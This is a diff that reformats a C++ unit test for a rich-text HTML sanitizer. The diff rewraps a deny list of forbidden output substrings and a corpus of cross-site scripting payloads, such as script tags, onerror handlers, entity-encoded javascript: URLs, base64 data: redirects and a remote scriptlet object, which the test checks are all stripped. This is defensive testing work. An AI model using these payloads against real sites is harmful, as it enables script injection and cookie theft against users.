@@ -13,11 +13,10 @@ namespace host {
 namespace {
 
 // What must never come out, whatever went in (lower-cased output checked).
-constexpr const char* kForbidden[] = {"<script", "javascript:", "vbscript:", "data:", " on",
-                                      "style=",  "<iframe",     "<svg",      "<img", "<object",
-                                      "<embed",  "<form",       "<input",    "<base", "<meta",
-                                      "<link",   "<style",      "<math",     "srcdoc", "<template",
-                                      "formaction", "<body",    "<xss"};
+constexpr const char* kForbidden[] = {
+    "<script", "javascript:", "vbscript:", "data:",     " on",        "style=", "<iframe", "<svg",
+    "<img",    "<object",     "<embed",    "<form",     "<input",     "<base",  "<meta",   "<link",
+    "<style",  "<math",       "srcdoc",    "<template", "formaction", "<body",  "<xss"};
 
 constexpr const char* kCorpus[] = {
     "<script>alert(1)</script>",
@@ -29,7 +28,9 @@ constexpr const char* kCorpus[] = {
     "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
     "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
     "<img src=x onerror=alert(1)//",
-    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG "
+    "SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#"
+    "116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
     "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
     "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
     "<a href=\" javascript:alert(1)\">space</a>",
@@ -52,10 +53,12 @@ constexpr const char* kCorpus[] = {
     "<p style=\"background:url(javascript:alert(1))\">styled</p>",
     "<DIV STYLE=\"width: expression(alert('XSS'));\">",
     "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
-    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
+    "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
     "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
     "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
-    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" type=\"image/svg+xml\"></EMBED>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" "
+    "type=\"image/svg+xml\"></EMBED>",
     "<BASE HREF=\"javascript:alert('XSS');//\">",
     "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
     "<form><button formaction=javascript:alert(1)>x</button></form>",
@@ -79,7 +82,8 @@ TEST(RichTextTest, NothingOfTheXssCorpusSurvives) {
   for (const char* vector : kCorpus) {
     std::string out = crm::text::ToLowerAscii(SanitizeRichText(vector));
     for (const char* bad : kForbidden) {
-      EXPECT_EQ(out.find(bad), std::string::npos) << vector << "\n  -> " << out << "\n  has " << bad;
+      EXPECT_EQ(out.find(bad), std::string::npos)
+          << vector << "\n  -> " << out << "\n  has " << bad;
     }
   }
 }
@@ -115,7 +119,8 @@ TEST(RichTextTest, UnwrapsOrDropsTheRest) {
   deep += "x";
   std::string flat = SanitizeRichText(deep);
   size_t opened = 0;
-  for (size_t at = flat.find("<b>"); at != std::string::npos; at = flat.find("<b>", at + 1)) ++opened;
+  for (size_t at = flat.find("<b>"); at != std::string::npos; at = flat.find("<b>", at + 1))
+    ++opened;
   EXPECT_LE(opened, 32u);
   std::string nested;
   for (int i = 0; i < 100; ++i) nested += "<b>";
